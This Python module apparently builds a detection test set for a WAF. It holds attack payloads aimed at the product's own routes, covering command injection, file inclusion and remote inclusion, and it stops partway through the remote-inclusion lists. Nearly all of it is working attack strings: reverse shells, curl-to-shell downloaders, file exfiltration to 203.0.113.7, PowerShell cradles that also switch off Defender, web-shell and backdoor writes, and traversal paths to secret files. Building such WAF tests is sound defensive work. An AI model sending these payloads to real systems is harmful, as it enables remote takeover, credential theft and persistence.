"""Blind set "hundredsixtyfirst": a penetration test of this very product (edge gateway, Jeeves, TokenDealer) for
the OS command injection, local file inclusion / path traversal and remote file inclusion titles, with benign
requests that carry the same words innocently.

The angle: a tester who read README.md, app/ and tokendealer/ and attacks the real fields the way that knowledge
suggests, each payload shaped for the field it goes to and for what the service behind it could do with it: the
place of /me/location, a slash command's text and a button's value (a geocoder lookup a tester guesses shells out
to curl), /me/settings' timezone and PATCH /api/users' settings.timezone (a zoneinfo file name, or TZ in a shell),
alert_time (an at/cron job), units (a template name), the admin panel's forms that mirror the CLIs (map-slack's
--user, `tokendealer.cli clients create ID`, the features' action and team_id), TokenDealer's scope, audience and
client_id, the JWT header's kid (a key file) and jku (a key URL), Slack's response_url, Sign in with Slack's
redirect_uri, the admin login's next, a Slack file_share event's file name and url_private, the admin panel's
static files, the sign-in link token in the path, the session cookie (a session file), User-Agent, Referer,
Accept-Language and Slack's retry header (shellshock, locale files), and the product's own files as targets
(.run/secrets/*, .run/logs/*, gateway/gateway.yaml, .run/nginx/nginx.conf, app/config.py, /proc/self/environ).
Each list's comment names the family, the target (shell, file system, PHP-style include, URL fetcher) and the field.

Families (the `sub` of each record; one per detection title as remembered):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS}, globbing, brace
    expansion, variables), windows-command-injection, powershell, unix-command-with-path, reverse-shell (bash
    /dev/tcp, nc, python, perl, socat), shellshock, shell-downloader (curl/wget | sh), shell-file-write (echo >,
    tee), restricted-file-names (the product's and the system's secrets read by a command)
  lfi: path-traversal (../ and ..\\ in every encoding), os-file-access (/etc/passwd, /proc/self/*, win.ini,
    boot.ini, web.config, .htaccess, .git/, .env, id_rsa), absolute-path, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-target, restricted-file-extension (.bak, .old, .config, .ini, .sql)
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url (page, file, template,
    include, path and the classic include-root names on our routes), off-domain-reference, rfi-protocol (ftp://,
    smb://, \\\\host\\share, data:, expect:)

Placements: every payload is sent twice. Once to the real field it targets (the "real" placements: the names
above, e.g. "me-location", "me-tz", "slack-cmd-text", "slack-interaction-value", "admin-client-id", "jwt-kid",
"auth-redirect-uri", "header:User-Agent", "cookie-me", "inc-param"), with the rest of that request as the product
expects it (csrf_token and session cookie on the panel's and /me/'s forms, Slack's form and JSON shapes with a
placeholder signature, Basic auth on TokenDealer's forms, a bearer on /api/). Once the way a WAF regression suite
sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body, User-Agent, Referer, a custom header, a cookie or a
parameter name; file names as a multipart file name; an include parameter under its own name. A value written
with %XX escapes (traversal encodings, %00) is sent as written, not encoded again. Header-borne placements take
only printable single-line ASCII; other payloads fall back to a body field.

Authorship and independence: written for this repository from general knowledge of each attack family, the
detection titles and the product's own routes alone (README.md, app/, tokendealer/); no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock,
no randomness).
"""

from __future__ import annotations

import base64
import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import b64url, b64url_json, numbered, print_records

NAME = "hundredsixtyfirst"

def _ps_enc(command: str) -> str:
    """PowerShell's -EncodedCommand: base64 of the UTF-16LE text."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


# ================================================================================================================
# rce: the shell behind the product
# ================================================================================================================
# --- unix-command-injection --------------------------------------------------------------------------------------
# sh/bash behind POST /me/location `place`: a tester guesses the geocoder lookup shells out (curl, geoiplookup)
RCE_SEP_PLACE = [
    "Paris; id",
    "London | id",
    "Berlin || uname -a",
    "Oslo && cat /etc/passwd",
    "Madrid$(id)",
    "Rome`id`",
    "Lisbon\nid\n",
]
# sh behind /slack/commands `text` (/jeeves weather <place>, remember location <place>)
RCE_SEP_COMMAND = [
    "weather Paris; sleep 10",
    "remember location Kyiv | id",
    "weather Tokyo && curl http://203.0.113.7/`whoami`",
]
# sh behind POST /admin/slack-sign-in `user_id` (the panel mirroring `app.admin.cli map-slack --user`)
RCE_SEP_MAPSLACK = [
    "U0DEMOADA; id #",
    "U0123|id",
]
# sh behind POST /admin/clients `client_id` (the panel mirroring `tokendealer.cli clients create ID`)
RCE_SEP_CLIENT = [
    "ci-bot;ls -la /",
    "ci-bot$(id)",
]
# sh behind a block_actions button's `value` (set_location: "remember location <value>")
RCE_SEP_BUTTON = [
    "Sydney;id;",
    "Nairobi\nuname -a",
]

# --- unix-shell-evasion ------------------------------------------------------------------------------------------
# bash behind /me/settings `timezone` (a tester guesses `TZ=<timezone> date` in a shell)
RCE_EVADE_TZ = [
    "UTC;c'a't${IFS}/etc/passwd",
    "Europe/London;{cat,/etc/passwd}",
    "UTC$(c\\at${IFS}/e??/p?ss??)",
    "UTC;/???/c?t${IFS}/???/p??s??",
]
# bash behind /me/settings `alert_time` (a tester guesses an `at <time>` job)
RCE_EVADE_ALERT = [
    "07:30;w'h'o'a'm'i",
    "07:30|{id,}",
    "07:30;i$@d",
    "07:30;w\"\"hoami",
]
# bash behind /slack/commands `text`
RCE_EVADE_COMMAND = [
    "weather Paris;c''at$IFS/etc/passwd",
    "weather Paris;a=i;b=d;$a$b",
    "weather Paris;$(printf '\\x69\\x64')",
]
# bash behind POST /admin/features `team_id`
RCE_EVADE_FEATURE = [
    "T061EG9R6;{ls,-la,/}",
    "T061EG9R6;${PATH:0:1}bin${PATH:0:1}id",
]
# bash behind GET /api/users `team_id`
RCE_EVADE_TEAM = [
    "T061EG9R6;who$()ami",
    "T0;ca\\t /et\\c/pas\\swd",
    "T0;$'\\x69\\x64'",
]

# --- windows-command-injection -----------------------------------------------------------------------------------
# cmd.exe behind POST /me/location `place` (a tester not yet sure the host is Linux)
RCE_WIN_PLACE = [
    "Paris & dir C:\\",
    "Paris | type C:\\Windows\\win.ini",
    "Paris && whoami /all",
    "Paris || ipconfig /all",
    "London & net user",
    "Paris&&c^m^d /c who^ami",
    "Paris & for /f %i in ('whoami') do nslookup %i.dnslog.attacker.example",
    "Paris & ping -n 5 127.0.0.1",
]
# cmd.exe behind /slack/commands `text`
RCE_WIN_COMMAND = [
    "weather Paris & systeminfo",
    "weather Oslo | tasklist /v",
    "weather Rome & %COMSPEC% /c whoami",
]
# cmd.exe behind POST /admin/clients `description` and POST /admin/slack-sign-in `username`
RCE_WIN_CLIENT = [
    "nightly export & cmd /c ver",
    "nightly export | cmd.exe /c \"set\"",
    "ci-bot & certutil -urlcache -split -f http://203.0.113.7/x.exe %TEMP%\\x.exe",
]
RCE_WIN_USERNAME = [
    "ops & reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\"",
    "ops | net localgroup administrators",
]

# --- powershell --------------------------------------------------------------------------------------------------
# PowerShell behind a Slack message's `event.text` (a DM "weather <place>")
RCE_PS_EVENT = [
    "weather Paris; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
    "weather Paris | powershell -nop -enc " + _ps_enc("IEX (iwr -UseBasicParsing http://203.0.113.7/a.ps1)"),
    "weather Paris & powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File \\\\203.0.113.7\\s\\r.ps1",
    "weather Paris;pOwErShElL -NoP -NonI -c i`e`x('whoami')",
    "weather Paris & powershell [System.Diagnostics.Process]::Start('cmd','/c whoami')",
]
# PowerShell behind POST /me/location `place`
RCE_PS_PLACE = [
    "Paris | powershell Invoke-WebRequest -Uri http://203.0.113.7/x -OutFile $env:TEMP\\x.exe",
    "Paris & powershell -c \"iwr http://203.0.113.7/ -Method POST -Body (Get-ChildItem Env:|Out-String)\"",
    "Paris & powershell Start-Process cmd -ArgumentList '/c whoami'",
    "Paris | powershell -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.7',443)\"",
    "Paris; powershell -c \"Invoke-Expression ([Text.Encoding]::UTF8.GetString("
    "[Convert]::FromBase64String('d2hvYW1p')))\"",
]
# PowerShell (pwsh on Linux too) behind POST /admin/clients `description` and TokenDealer's `scope`
RCE_PS_CLIENT = [
    "sync job; pwsh -c Get-Content /etc/passwd",
    "sync job | powershell gci C:\\Users -Recurse -Include *.kdbx",
    "sync job & powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
]
RCE_PS_SCOPE = [
    "read & powershell -c \"Get-WmiObject Win32_ComputerSystem\"",
    "read & powershell -c \"Add-MpPreference -ExclusionPath C:\\Users\\Public\"",
    "read | powershell -c \"& {Get-LocalUser}\"",
]

# --- unix-command-with-path --------------------------------------------------------------------------------------
# sh behind POST /admin/slack-sign-in `user_id` (map-slack --user)
RCE_PATH_MAPSLACK = [
    "U0DEMOADA;/usr/bin/id",
    "U0123|/bin/cat /etc/shadow",
]
# sh behind PATCH /api/users/<id> `name`
RCE_PATH_NAME = [
    "Ann;/bin/sh -c id",
    "Ann`/usr/bin/whoami`",
]
# sh behind /me/settings `timezone`
RCE_PATH_TZ = [
    "UTC;/usr/bin/env",
    "UTC$(/bin/uname -a)",
]
# sh behind /slack/commands `text`
RCE_PATH_COMMAND = [
    "weather Paris;/usr/bin/nslookup $(/usr/bin/whoami).dnslog.attacker.example",
    "weather Paris|/sbin/ifconfig",
]
# sh behind TokenDealer's POST /oauth/token `scope`
RCE_PATH_SCOPE = [
    "read;/usr/bin/curl -s http://203.0.113.7/`/usr/bin/id -u`",
    "read&&/usr/bin/python3 -c 'import os;os.system(\"id\")'",
]
# sh behind POST /admin/clients `client_id`
RCE_PATH_CLIENT = [
    "ci-bot;/bin/ls -la /root",
    "ci-bot|/usr/bin/head -n 20 /proc/self/environ",
]
# sh behind POST /me/location `place`
RCE_PATH_PLACE = [
    "Paris;/usr/bin/find / -perm -4000 -type f",
    "Paris;/usr/bin/crontab -l",
    "Paris;/bin/ps aux",
    "Paris;/usr/bin/sudo -l",
]

# --- reverse-shell -----------------------------------------------------------------------------------------------
# bash, nc, python, perl, socat, php, ruby, awk behind POST /me/location `place`
RCE_REV_PLACE = [
    "Paris; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "Paris; bash -c 'exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5|while read l;do $l 2>&5 >&5;done'",
    "Paris | nc -e /bin/sh 203.0.113.7 4444",
    "Paris; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    "Paris; ncat 203.0.113.7 4444 -e /bin/bash",
]
# the same behind /slack/commands `text`
RCE_REV_COMMAND = [
    "weather Paris; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "weather Paris; perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
    "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
    "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
    "weather Paris; socat tcp-connect:203.0.113.7:4444 exec:sh,pty,stderr,setsid,sigint,sane",
    "weather Paris; socat TCP:203.0.113.7:4444 EXEC:/bin/bash",
]
# the same behind a Slack message's `event.text`
RCE_REV_EVENT = [
    "weather Paris; php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "weather Paris; ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "weather Paris; sh -i >& /dev/udp/203.0.113.7/53 0>&1",
]
# the same behind POST /admin/clients `description`
RCE_REV_CLIENT = [
    "nightly sync; 0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    "nightly sync; telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445",
    "nightly sync; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print $0|&s;close(c)}}}'",
    "nightly sync; busybox nc 203.0.113.7 4444 -e sh",
]

# --- shellshock --------------------------------------------------------------------------------------------------
# bash CVE-2014-6271/7169 through the headers a CGI-style hop would export: User-Agent (stored with sessions)
RCE_SHOCK_UA = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /usr/bin/wget http://203.0.113.7/s -O /tmp/s",
]
# ... Referer of Sign in with Slack's login
RCE_SHOCK_REFERER = [
    "() { ignored; }; /bin/sleep 10",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
]
# ... the /me/ session cookie
RCE_SHOCK_COOKIE = [
    "() { 0; }; ping -c 3 203.0.113.7",
    "() { (a)=>\\' bash -c 'echo vulnerable'",
    "() { :; }; curl http://203.0.113.7/$(whoami)",
]
# ... Slack's X-Slack-Retry-Reason on /slack/events
RCE_SHOCK_RETRY = [
    "() { x() { _; }; x() { _; } <<a; }",
    "() { :; }; /bin/nc 203.0.113.7 4444 -e /bin/sh",
    "() { :; }; exec 3<>/dev/tcp/203.0.113.7/80",
]
# ... Accept-Language of /me/
RCE_SHOCK_LANG = [
    "() { :; }; /usr/bin/python -c 'import os;os.system(\"id\")'",
    "() { test;};/bin/uname -a",
    "() { :; }; echo; echo; /bin/bash -c 'cat /proc/self/environ'",
]

# --- shell-downloader --------------------------------------------------------------------------------------------
# curl/wget/fetch piped to sh behind POST /me/location `place`
RCE_DL_PLACE = [
    "Paris; curl -fsSL http://203.0.113.7/i.sh | sh",
    "Paris; wget -qO- http://203.0.113.7/i.sh | bash",
    "Paris; curl http://203.0.113.7/x -o /tmp/x && chmod +x /tmp/x && /tmp/x",
    "Paris;wget http://203.0.113.7/m -O /tmp/m;sh /tmp/m",
]
# ... behind /slack/commands `text`
RCE_DL_COMMAND = [
    "weather Paris`curl -s 203.0.113.7/s|sh`",
    "weather Paris$(wget -O - http://attacker.example/k|sh)",
    "weather Paris; busybox wget http://203.0.113.7/b -O- | sh",
]
# ... exfiltration through curl/wget behind POST /admin/clients `client_id`
RCE_DL_CLIENT = [
    "ci-bot; curl -d @/etc/passwd http://203.0.113.7/",
    "ci-bot; curl -F f=@/proc/self/environ http://203.0.113.7/up",
    "ci-bot; wget --post-file=/etc/shadow http://203.0.113.7/",
]
# ... other fetchers behind a block_actions button's `value`
RCE_DL_BUTTON = [
    "Paris; tftp -g -r x.sh 203.0.113.7 && sh x.sh",
    "Paris; fetch -o - http://203.0.113.7/f | sh",
    "Paris; lwp-download http://203.0.113.7/p /tmp/p",
]
# ... interpreters as downloaders behind PATCH /api/users/<id> `name`
RCE_DL_NAME = [
    "Ann; python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/p').read())\"",
    "Ann; curl http://203.0.113.7/`whoami`.txt",
    "Ann; php -r \"copy('http://203.0.113.7/w.txt','/tmp/w.php');\"",
]

# --- shell-file-write --------------------------------------------------------------------------------------------
# echo/tee/printf writes behind POST /admin/clients `description`: persistence on the host
RCE_WRITE_CLIENT = [
    "nightly; echo '<?php system($_GET[0]);?>' > /var/www/html/s.php",
    "nightly; echo c3lzdGVtIGlk | base64 -d > /tmp/x",
    "nightly; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHt3c3RlcnRlc3RlcnRlc3RlcnRlc3Rlcg tester' "
    ">> ~/.ssh/authorized_keys",
    "nightly; echo '* * * * * root nc 203.0.113.7 4444 -e /bin/sh' >> /etc/crontab",
]
# ... behind a Slack message's `event.text`
RCE_WRITE_EVENT = [
    "weather Paris; echo 'r00t::0:0::/root:/bin/bash' | tee -a /etc/passwd",
    "weather Paris; printf '#!/bin/sh\\nid\\n' > /tmp/r.sh",
    "weather Paris; echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
]
# ... behind POST /me/location `place`: the product's own files (forged Slack signatures, a rewritten edge)
RCE_WRITE_PLACE = [
    "Paris; echo forged > .run/secrets/slack_signing_secret",
    "Paris; echo 'import os;os.system(\"id\")' >> app/__init__.py",
    "Paris; echo 'server { listen 8081; root /; autoindex on; }' >> .run/nginx/nginx.conf && make reload",
    "Paris; tee .run/secrets/admin.json <<< '{\"username\":\"admin\",\"password\":\"x\"}'",
]
# ... behind PATCH /api/users/<id> `name`
RCE_WRITE_NAME = [
    "Ann; touch /tmp/pwned",
    "Ann; cp /bin/sh /tmp/sh; chmod u+s /tmp/sh",
    "Ann; echo 'alias sudo=\"sudo id;sudo\"' >> ~/.bashrc",
    "Ann; echo '0 * * * * curl 203.0.113.7|sh' | crontab -",
    "Ann; echo ok > /proc/sys/kernel/core_pattern",
]

# --- restricted-file-names ---------------------------------------------------------------------------------------
# commands reading the product's and the system's secrets behind /slack/commands `text`
RCE_FILES_COMMAND = [
    "weather Paris;cat /etc/shadow",
    "weather Paris;more /etc/group",
    "weather Paris;tail -n 50 .run/logs/gateway-error.log",
    "weather Paris;cat .run/secrets/slack_signing_secret",
]
# ... behind /me/settings `timezone`
RCE_FILES_TZ = [
    "UTC;cat .run/secrets/redis_password",
    "UTC;head /proc/self/environ",
    "UTC;less /root/.bash_history",
    "UTC;cat ~/.ssh/id_rsa",
]
# ... behind GET /api/users `team_id`
RCE_FILES_TEAM = [
    "T061EG9R6;cat /etc/hosts",
    "T061EG9R6;cat /proc/version",
    "T061EG9R6;nl /etc/passwd",
]
# ... behind TokenDealer's POST /oauth/token `audience`
RCE_FILES_AUDIENCE = [
    "jeeves;strings .run/pg/global/pg_control",
    "jeeves;xxd /etc/shadow",
    "jeeves;base64 .run/secrets/admin.json",
]
# ... behind a block_actions button's `value`
RCE_FILES_BUTTON = [
    "Paris;cat .run/secrets/demo_client.json",
    "Paris;od -c /etc/sudoers",
]

# ================================================================================================================
# lfi: the file system behind the product
# ================================================================================================================
# --- path-traversal ----------------------------------------------------------------------------------------------
# zoneinfo lookup of /me/settings `timezone` (the file /usr/share/zoneinfo/<timezone>)
LFI_TRAV_TZ = [
    "Europe/../../../../etc/passwd",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
]
# zoneinfo lookup of PATCH /api/users/<id> `settings.timezone` (Windows hosts: ..\ forms)
LFI_TRAV_API_TZ = [
    "..\\..\\..\\..\\windows\\win.ini",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255c..%255cboot.ini",
    "..\\/..\\/..\\/etc/passwd",
]
# the template file of /me/settings `units` (templates/units/<units>.html)
LFI_TRAV_UNITS = [
    "..././..././..././etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    ".%2e/.%2e/.%2e/etc/passwd",
    "..//..//..//etc/passwd",
]
# the admin panel's static files (GET /admin/static/<file>, where admin.css lives)
LFI_TRAV_STATIC = [
    "..%2f..%2f..%2fapp%2fconfig.py",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..;/..;/..;/etc/passwd",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
]
# the JWT header's `kid` on /api/ (a key file read by kid)
LFI_TRAV_KID = [
    "../../../../../../dev/null",
    "../\\../\\../\\etc/passwd",
]

# --- os-file-access ----------------------------------------------------------------------------------------------
# the template file of /me/settings `units`: the process, the repository and the host
LFI_OS_UNITS = [
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/status",
    "../../../.env",
    "../../../../.git/config",
    "../../.git/HEAD",
]
# the zoneinfo file of /me/settings `timezone`: the product's secrets and config (relative to the repository)
LFI_OS_TZ = [
    "../../../.run/secrets/slack_signing_secret",
    "../../../.run/secrets/admin.json",
    "../../../gateway/gateway.yaml",
    "../../../.run/nginx/nginx.conf",
    "../../../../proc/self/cwd/app/config.py",
]
# POST /admin/features `action` (a tester guesses the action's module or help file is read by name)
LFI_OS_ACTION = [
    "../../../../root/.ssh/id_rsa",
    "../../../../home/jeeves/.ssh/id_ed25519",
    "../../../../etc/shadow",
    "../../../../proc/1/environ",
]
# the JWT header's `kid`
LFI_OS_KID = [
    "../../../.run/secrets/tokendealer_key_encryption_key",
    "../../../../proc/self/mounts",
]
# a Slack file_share event's `files[0].name` (Windows and IIS names)
LFI_OS_FILE = [
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "..\\..\\..\\boot.ini",
    "../../../web.config",
    "../../.htaccess",
    "../../../.git/logs/HEAD",
    "../../../../var/lib/postgresql/.pgpass",
]

# --- absolute-path -----------------------------------------------------------------------------------------------
# /me/settings `timezone`: glibc reads TZ=":<file>" and absolute zone files
LFI_ABS_TZ = [
    ":/etc/passwd",
    "/etc/passwd",
    "/usr/share/zoneinfo/../../../etc/shadow",
    "/proc/self/environ",
    "/proc/self/root/etc/passwd",
    "//etc//passwd",
]
# PATCH /api/users/<id> `settings.timezone`
LFI_ABS_API_TZ = [
    "/etc/shadow",
    "/proc/self/cmdline",
    "/proc/self/maps",
    "/./etc/./passwd",
    "C:\\Windows\\win.ini",
]
# /me/settings `units` (template name)
LFI_ABS_UNITS = [
    "/proc/self/fd/3",
    "/proc/net/tcp",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
]
# POST /admin/features `action`
LFI_ABS_ACTION = [
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/root/.aws/credentials",
    "/etc/ssl/private/ssl-cert-snakeoil.key",
    "/etc/nginx/nginx.conf",
]
# a Slack file_share event's `files[0].name`
LFI_ABS_FILE = [
    "/etc/redis/redis.conf",
    "/etc/postgresql/15/main/pg_hba.conf",
    "file:///etc/passwd",
]

# --- null-byte-truncation ----------------------------------------------------------------------------------------
# /me/settings `units`: the template name with ".html" appended, cut by %00 or by length
LFI_NUL_UNITS = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.html",
    "..%2f..%2f..%2fetc%2fpasswd%00.json",
    "../../../../etc/passwd" + "/." * 1024,
    "..\\..\\..\\windows\\win.ini" + "." * 300,
    "../../../../etc/passwd%00%00",
]
# /me/settings `timezone`
LFI_NUL_TZ = [
    "/etc/passwd%00",
    "../../../.run/secrets/admin.json%00.txt",
    "../../../../proc/self/environ%00",
    "../../../../etc/shadow%2500",
    "/etc/passwd%00index.html",
]
# POST /admin/features `action`
LFI_NUL_ACTION = [
    "..\\..\\..\\windows\\win.ini%00.tpl",
    "../../../../etc/passwd%u0000",
    "../../../../etc/hosts%00",
    "....//....//etc/passwd%00",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00",
]
# a Slack file_share event's `files[0].name`: an upload whose extension is cut off
LFI_NUL_FILE = [
    "report.php%00.png",
    "avatar.jsp%00.jpg",
    "shell.phtml%00.gif",
    "C:\\boot.ini%00",
    "../../../gateway/gateway.yaml%00.json",
    "../../../../etc/passwd%23.png",
    "../../../../etc/passwd" + "/" * 1500,
]

# --- php-wrapper-lfi ---------------------------------------------------------------------------------------------
# /me/settings `units` (a PHP-style include of the template: the tester does not trust the Python stack)
LFI_PHP_UNITS = [
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=config.php",
    "pHp://FilTer/convert.base64-encode/resource=../../.env",
    "php://input",
]
# /me/settings `timezone`
LFI_PHP_TZ = [
    "php://fd/3",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/string.toupper|string.rot13/resource=/etc/hosts",
    "php://filter/convert.quoted-printable-encode/resource=/proc/self/environ",
    "php://filter/read=convert.base64-encode|convert.base64-decode/resource=/etc/shadow",
]
# POST /admin/features `action`
LFI_PHP_ACTION = [
    "phar:///tmp/uploads/avatar.jpg/x.php",
    "phar://./uploads/a.gif",
    "zip:///tmp/uploads/x.zip#shell.php",
    "zip://../uploads/avatar.zip%23s.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../../etc/passwd",
]
# GET /api/users `team_id` and a block_actions button's `value`
LFI_PHP_TEAM = [
    "glob:///var/www/*",
    "php://filter/convert.base64-encode/resource=../../../.run/secrets/admin.json",
    "php://temp/maxmemory:1024",
]
LFI_PHP_BUTTON = [
    "phar://../../.run/uploads/avatar.png/test.txt",
    "php://filter//resource=/etc/passwd",
    "php://filter/convert.base64-encode/resource=php://stdin",
]

# --- log-poisoning-target ----------------------------------------------------------------------------------------
# /me/settings `units`: the logs a poisoned User-Agent or Slack text lands in (this stack's and the usual ones)
LFI_LOG_UNITS = [
    "../../../.run/logs/gateway-access.log",
    "../../../.run/logs/gateway-error.log",
    "../../../.run/logs/tokendealer.log",
    "../../../.run/logs/fake-slack.jsonl",
    "../../../.run/logs/acme.log",
    "../../../../var/log/nginx/access.log",
]
# /me/settings `timezone`
LFI_LOG_TZ = [
    "/var/log/nginx/error.log",
    "/var/log/apache2/access.log",
    "/proc/self/fd/1",
    "/proc/self/fd/2",
    "../../../../var/log/auth.log",
]
# POST /admin/features `action`
LFI_LOG_ACTION = [
    "/var/log/syslog",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/var/lib/php/sessions/sess_5f4dcc3b5aa765d61d8327deb882cf99",
    "/tmp/sess_5f4dcc3b5aa765d61d8327deb882cf99",
    "/var/log/postgresql/postgresql-15-main.log",
]
# the /me/ session cookie (a tester guesses a file-backed session store named by the cookie)
LFI_LOG_COOKIE = [
    "../../../../var/log/redis/redis-server.log",
    "../../../.run/logs/jeeves.log",
    "../../../../var/log/nginx/access.log.1",
    "../../../../var/log/httpd/access_log",
    "../../../../proc/self/fd/10",
    "../../../../var/log/lastlog",
]

# --- restricted-file-extension -----------------------------------------------------------------------------------
# backups and configs next to the product's files, fetched by URL path
LFI_EXT_PATH = [
    "app/config.py.bak",
    "app/config.py.old",
    "gateway/gateway.yaml.bak",
    "gateway/gateway.yaml.orig",
    "app/db/alembic.ini",
    "backup.sql",
    "jeeves.sql",
    "settings.ini",
    "web.config.bak",
    "nginx.conf.old",
]
# ... through the admin panel's static files
LFI_EXT_STATIC = [
    "admin.css.bak",
    "admin.css.old",
    "..%2f..%2fsecurity.py.bak",
    "..%2f..%2f..%2fdb%2falembic.ini",
    "php.ini",
    ".config",
]
# ... as a Slack file_share event's `files[0].name`
LFI_EXT_FILE = [
    "dump.sql",
    "tokendealer.sql",
    "config.inc.php.old",
    "database.yml.bak",
    ".env.bak",
    "id_rsa.bak",
    "wp-config.php.bak",
]

# ================================================================================================================
# rfi: a remote file the product could fetch, include or redirect to
# ================================================================================================================
# --- url-with-ip-address -----------------------------------------------------------------------------------------
# /slack/commands `response_url` (Jeeves POSTs the answer there)
RFI_IP_CMD_HOOK = [
    "http://203.0.113.7/commands/T061EG9R6/1234/abcd",
    "https://198.51.100.23/hooks/x",
    "http://203.0.113.7:8080/cb",
    "http://3405803783/commands/T061EG9R6/1/x",
    "http://0xcb007107/hook",
    "https://hooks.slack.com@203.0.113.7/commands/T061EG9R6/1/x",
]
# a block_actions payload's `response_url`
RFI_IP_BTN_HOOK = [
    "http://[2001:db8::7]/actions/T061EG9R6/1/x",
    "http://0313.0.0161.07/actions/x",
    "https://203.0.113.7/actions/T061EG9R6/5678/efgh",
    "http://3325256727/actions/cb",
    "http://0xc6336417:8443/cb",
]
# Sign in with Slack's `redirect_uri` (GET /auth/slack/login)
RFI_IP_REDIRECT = [
    "https://203.0.113.7/auth/slack/callback",
    "http://198.51.100.23:8443/auth/slack/callback",
    "https://[2001:db8::23]/callback",
    "http://203.0.113.7/steal",
    "https://198.51.100.23/oauth/capture",
]
# the JWT header's `jku` (the key set URL a verifier could fetch)
RFI_IP_JKU = [
    "https://203.0.113.7/.well-known/jwks.json",
    "http://198.51.100.23/jwks.json",
    "http://203.0.113.7:8000/keys",
]
# a Slack file_share event's `files[0].url_private` (a file Jeeves could download)
RFI_IP_FILE_URL = [
    "http://203.0.113.7/shell.txt",
    "https://198.51.100.23/x.php",
    "http://203.0.113.7/files-pri/T061EG9R6-F01/inc.txt",
    "http://[::ffff:cb00:7107]/x.txt",
]
# TokenDealer's `audience` and /verify_token's `audience` (a tester guessing a resource fetched by URL)
RFI_IP_AUDIENCE = [
    "https://203.0.113.7/api",
    "http://198.51.100.23/aud.txt",
    "http://203.0.113.7/.well-known/oauth-authorization-server",
]
# POST /admin/login `next` (form) and GET /admin/login?next=
RFI_IP_NEXT = [
    "http://203.0.113.7/admin/",
    "//203.0.113.7/admin/users",
    "https://198.51.100.23/login",
    "http://3405803783/admin",
    "//0xcb007107/",
    "http://203.0.113.7%2f@localhost/",
]

# --- url-with-trailing-question-mark -----------------------------------------------------------------------------
# /me/settings `units` (template name included as a URL; the ? swallows the appended ".html")
RFI_QM_UNITS = [
